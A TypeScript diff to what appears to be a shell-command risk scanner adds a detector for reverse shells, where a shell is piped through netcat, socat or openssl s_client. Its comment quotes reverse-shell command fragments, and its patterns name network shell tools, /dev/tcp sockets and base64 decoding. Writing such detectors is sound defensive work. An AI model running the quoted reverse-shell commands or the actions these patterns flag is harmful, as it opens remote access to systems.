@@ -125,6 +125,32 @@ export const OUTSIDE_TRANSFER: Pick<RegExp, "test"> = {
   },
 };
 
+/** A tool that carries a byte stream over the network: netcat and its kin, and openssl's TLS client. */
+const NETWORK_PIPE_TOOL = /^\s*(?:sudo\s+)?(?:\/\S*\/)?(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet|openssl\s+s_client|cryptcat)\b/i;
+const SHELL_IN_PIPE = /^\s*(?:exec\s+)?(?:\/\S*\/)?(?:ba|da|z|k)?sh(?:\s+-i)?\s*$/i;
+/** A line without its redirections (`2>&1`, `< /tmp/f`, `2>/dev/null`), which would otherwise split its pipeline. */
+const withoutRedirections = (line: string): string => line.replace(/\d*[<>]+&\d+/g, " ").replace(/\d*[<>]+\s*[^\s|;&]+/g, " ");
+
+/**
+ * A shell wired to a network tool by a pipe, either way round (`openssl s_client -connect h:993 | /bin/bash |
+ * openssl s_client ...`, `/bin/sh -i < /tmp/f | nc h 4444 > /tmp/f`): the tool holds the socket, the shell reads
+ * and writes it through the pipe (PayloadsAllTheThings, Reverse Shell Cheatsheet: OpenSSL, mkfifo netcat).
+ */
+export const SHELL_THROUGH_NETWORK: Pick<RegExp, "test"> = {
+  test(text: string): boolean {
+    for (const line of text.split("\n")) {
+      const commands = simpleCommandsOf(withoutRedirections(line));
+      for (let i = 1; i < commands.length; i++) {
+        if ((commands[i] as { op: string | undefined }).op !== "|") continue;
+        const a = (commands[i - 1] as { command: string }).command;
+        const b = (commands[i] as { command: string }).command;
+        if ((SHELL_IN_PIPE.test(a) && NETWORK_PIPE_TOOL.test(b)) || (NETWORK_PIPE_TOOL.test(a) && SHELL_IN_PIPE.test(b))) return true;
+      }
+    }
+    return false;
+  },
+};
+
 export interface CommandSignal {
   why: string;
   strong: boolean;
@@ -138,6 +164,7 @@ const COMMAND_SIGNALS: ReadonlyArray<{ re: Pick<RegExp, "test">; why: string; st
   { re: /\/dev\/(?:tcp|udp)\//i, why: "opens a /dev/tcp socket", strong: true },
   { re: /\bbase64\s+(?:-d|--decode)\b|\bbase64\s+-di?\b|frombase64|b64decode/i, why: "decodes base64", strong: true },
   { re: NETCAT_EXEC, why: "runs netcat with -e", strong: true },
+  { re: SHELL_THROUGH_NETWORK, why: "pipes a shell through a network tool (a reverse shell)", strong: true },
   { re: /(?:^|[\s'"=;|&(>])\/(?:tmp|var\/tmp|dev\/shm)\//, why: "uses a temp directory", strong: false },
   { re: OUTSIDE_TRANSFER, why: "fetches from or sends to an outside address with curl/wget", strong: false },
   { re: /\bpython[0-9.]*\s+-c\b|\bperl\s+-e\b/i, why: "runs inline interpreter code", strong: false },
